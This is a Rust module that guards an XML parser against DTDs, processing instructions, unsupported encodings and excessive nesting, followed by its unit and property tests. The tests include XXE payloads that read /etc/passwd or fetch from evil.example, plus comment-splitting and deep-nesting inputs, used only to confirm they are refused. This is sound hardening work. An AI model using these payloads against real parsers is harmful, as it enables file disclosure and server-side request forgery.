//! The only use of the XML parser. Dangerous and unneeded constructs are refused before parsing, texts are read whole,
//! and elements are compared by name and namespace.

use roxmltree::{Document, Node, ParsingOptions};

const MAX_DEPTH: usize = 32; // an answer has four levels
const MAX_ATTRIBUTES: usize = 32; // of one element; the parser compares every pair
const MAX_NAMESPACES: usize = 256; // declared in all; the parser copies those in scope
const MAX_NODES: u32 = 20_000; // three for each value: ten times the largest group list seen

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum XmlError {
    Malformed,
    /// A document type, a processing instruction, or another encoding or version than UTF-8 and 1.0.
    Forbidden,
    TooComplex,
    /// An element has a malformed name.
    Name,
}

/// Parses a text that passes `guard`.
pub(crate) fn parse(text: &str) -> Result<Document<'_>, XmlError> {
    guard(text)?;
    let options = ParsingOptions { nodes_limit: MAX_NODES, ..ParsingOptions::default() };
    Document::parse_with_options(text, options).map_err(|error| match error {
        roxmltree::Error::NodesLimitReached => XmlError::TooComplex,
        roxmltree::Error::DtdDetected => XmlError::Forbidden,
        _ => XmlError::Malformed,
    })
}

/// One pass over the tags. On well-formed text it sees the same tags as the parser. On other text the parser reports an
/// error at the first difference.
fn guard(text: &str) -> Result<(), XmlError> {
    let mut rest = match text.strip_prefix("<?xml").filter(|rest| rest.starts_with([' ', '\t', '\r', '\n'])) {
        Some(declaration) => {
            let (declaration, rest) = declaration.split_once("?>").ok_or(XmlError::Malformed)?;
            declared(declaration)?;
            rest
        }
        None => text,
    };
    let (mut depth, mut namespaces) = (0_usize, 0_usize);
    while let Some((_, markup)) = rest.split_once('<') {
        if let Some(comment) = markup.strip_prefix("!--") {
            rest = comment.split_once("-->").ok_or(XmlError::Malformed)?.1;
        } else if let Some(data) = markup.strip_prefix("![CDATA[") {
            rest = data.split_once("]]>").ok_or(XmlError::Malformed)?.1;
        } else if markup.starts_with(['!', '?']) {
            return Err(XmlError::Forbidden);
        } else if let Some(end) = markup.strip_prefix('/') {
            depth = depth.saturating_sub(1);
            rest = end.split_once('>').ok_or(XmlError::Malformed)?.1;
        } else {
            let tag = Tag::read(markup)?;
            namespaces += tag.namespaces;
            depth += usize::from(!tag.closed);
            if tag.attributes > MAX_ATTRIBUTES || namespaces > MAX_NAMESPACES || depth > MAX_DEPTH {
                return Err(XmlError::TooComplex);
            }
            rest = tag.rest;
        }
    }
    Ok(())
}

fn declared(declaration: &str) -> Result<(), XmlError> {
    let value = |name: &str| {
        let (_, after) = declaration.split_once(name)?;
        let after = after.trim_start().strip_prefix('=')?.trim_start();
        after.strip_prefix('"').and_then(|v| v.split_once('"')).or_else(|| after.strip_prefix('\'')?.split_once('\''))
    };
    let utf8 = value("encoding").is_none_or(|(encoding, _)| encoding.eq_ignore_ascii_case("utf-8"));
    let version = value("version").is_some_and(|(version, _)| version == "1.0");
    if utf8 && version { Ok(()) } else { Err(XmlError::Forbidden) }
}

struct Tag<'a> {
    attributes: usize,
    namespaces: usize,
    closed: bool,
    rest: &'a str,
}

impl<'a> Tag<'a> {
    /// `text` begins after the `<` of a start tag.
    fn read(text: &'a str) -> Result<Self, XmlError> {
        let name_end = text.find([' ', '\t', '\r', '\n', '/', '>']).ok_or(XmlError::Malformed)?;
        let (name, mut rest) = text.split_at(name_end);
        if !is_name(name) {
            return Err(XmlError::Name);
        }
        let (mut attributes, mut namespaces) = (0, 0);
        loop {
            let at = rest.find(['"', '\'', '>']).ok_or(XmlError::Malformed)?;
            let (before, tail) = rest.split_at(at);
            attributes += before.matches('=').count();
            namespaces += before.matches("xmlns").count();
            match tail.as_bytes().first() {
                Some(b'>') => {
                    let rest = tail.strip_prefix('>').unwrap_or_default();
                    return Ok(Self { attributes, namespaces, closed: before.ends_with('/'), rest });
                }
                Some(b'"') => rest = skip_quoted(tail, '"')?,
                _ => rest = skip_quoted(tail, '\'')?,
            }
        }
    }
}

fn skip_quoted(text: &str, quote: char) -> Result<&str, XmlError> {
    let (_, rest) = text.strip_prefix(quote).and_then(|text| text.split_once(quote)).ok_or(XmlError::Malformed)?;
    Ok(rest)
}

/// `name` or `prefix:name` (XML namespaces section 4). Every non-ASCII character counts as a letter.
fn is_name(name: &str) -> bool {
    let part = |part: &str| {
        let rest = part.strip_prefix(|c: char| c.is_ascii_alphabetic() || c == '_' || !c.is_ascii());
        rest.is_some_and(|rest| {
            rest.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.') || !c.is_ascii())
        })
    };
    match name.split_once(':') {
        Some((prefix, local)) => part(prefix) && part(local),
        None => part(name),
    }
}

/// The text of all children of a node. `None` when a child is not text: an element or a comment inside a value makes
/// two readers disagree about it.
pub(crate) fn text(node: Node<'_, '_>) -> Option<String> {
    let mut whole = String::new();
    for child in node.children() {
        whole.push_str(if child.is_text() { child.text()? } else { return None });
    }
    Some(whole)
}

/// The child elements of a node. `None` when the node also contains text other than white space.
pub(crate) fn elements<'a, 'i>(node: Node<'a, 'i>) -> Option<Vec<Node<'a, 'i>>> {
    let blank = |child: &Node<'_, '_>| child.text().is_none_or(|text| text.trim_ascii().is_empty());
    if !node.children().filter(|child| child.is_text()).all(|child| blank(&child)) {
        return None;
    }
    Some(node.children().filter(|child| child.is_element()).collect())
}

/// Whether this is the element of exactly this name in this namespace.
pub(crate) fn is(node: Node<'_, '_>, namespace: Option<&str>, name: &str) -> bool {
    node.tag_name().namespace() == namespace && node.tag_name().name() == name
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn refused(text: &str) -> XmlError {
        parse(text).expect_err(text)
    }

    #[test]
    fn x09_document_types_are_refused() {
        for text in [
            "<!DOCTYPE a><a/>",
            "<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>",
            "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
            "<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://evil.example/'> %x;]><a/>",
            "<?xml version='1.0'?>\n<!DOCTYPE a [ ]><a/>",
            "<!doctype a><a/>",
            "<a><!ENTITY x 'y'></a>",
        ] {
            assert_eq!(refused(text), XmlError::Forbidden, "{text}");
        }
        assert_eq!(refused("<a>&x;</a>"), XmlError::Malformed);
    }

    #[test]
    fn x10_depth_attributes_namespaces_and_nodes_are_capped() {
        let nested = |n: usize| format!("{}{}", "<a>".repeat(n), "</a>".repeat(n));
        assert!(parse(&nested(MAX_DEPTH)).is_ok());
        assert_eq!(refused(&nested(MAX_DEPTH + 1)), XmlError::TooComplex);
        assert_eq!(refused(&"<a>".repeat(1_000_000)), XmlError::TooComplex);
        let attributes =
            |n: usize| format!("<a {}/>", (0..n).map(|i| format!("a{i}='>' ")).collect::<Vec<_>>().concat());
        assert!(parse(&attributes(MAX_ATTRIBUTES)).is_ok());
        assert_eq!(refused(&attributes(MAX_ATTRIBUTES + 1)), XmlError::TooComplex);
        let namespaces = |n: usize| format!("<a>{}</a>", "<b xmlns:x='u'/>".repeat(n));
        assert!(parse(&namespaces(MAX_NAMESPACES)).is_ok());
        assert_eq!(refused(&namespaces(MAX_NAMESPACES + 1)), XmlError::TooComplex);
        assert!(parse(&format!("<a>{}</a>", "<b/>".repeat(19_000))).is_ok());
        assert_eq!(refused(&format!("<a>{}</a>", "<b/>".repeat(20_001))), XmlError::TooComplex);
    }

    #[test]
    fn x12_only_utf_8_and_version_1_0_are_read() {
        for good in
            ["<?xml version='1.0'?><a/>", "<?xml version=\"1.0\" encoding=\"utf-8\" standalone='yes' ?><a/>", "<a/>"]
        {
            assert!(parse(good).is_ok(), "{good}");
        }
        for bad in [
            "<?xml version='1.1'?><a/>",
            "<?xml version='1.0' encoding='ISO-8859-1'?><a/>",
            "<?xml version='1.0' encoding = 'UTF-16'?><a/>",
            "<?xml encoding='utf-8'?><a/>",
        ] {
            assert_eq!(refused(bad), XmlError::Forbidden, "{bad}");
        }
    }

    #[test]
    fn x25_a_malformed_element_name_has_its_own_error() {
        for bad in
            ["<c:cn;lang-en xmlns:c='u'>x</c:cn;lang-en>", "<c:a:b xmlns:c='u'/>", "<c:1a xmlns:c='u'/>", "<a@b/>"]
        {
            assert_eq!(refused(bad), XmlError::Name, "{bad}");
        }
        assert!(parse("<c:straße xmlns:c='u'/>").is_ok());
    }

    #[test]
    fn x01_a_text_with_other_nodes_inside_is_refused() {
        let read = |xml: &str| text(parse(xml).expect("xml").root_element());
        assert_eq!(read("<a>admin&#46;<![CDATA[<evil>]]></a>").as_deref(), Some("admin.<evil>"));
        assert_eq!(read("<a/>").as_deref(), Some(""));
        for split in ["<a>admin<!-- -->.evil</a>", "<a>admin<b/>.evil</a>", "<a><b>admin</b></a>"] {
            assert_eq!(read(split), None, "{split}");
        }
        assert_eq!(refused("<a>admin<?pi?>.evil</a>"), XmlError::Forbidden);
    }

    proptest! {
        #[test]
        fn any_text_is_parsed_or_refused(text: String) {
            let _ = parse(&text);
        }

        #[test]
        fn any_markup_is_parsed_or_refused(parts in prop::collection::vec(
            prop::sample::select(vec!["<", ">", "/", "a", "='", "'", "\"", " ", "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>", "&", ";", "xmlns:a", "<a>", "</a>", "é"]), 0..40,
        )) {
            let _ = parse(&parts.concat());
        }
    }
}
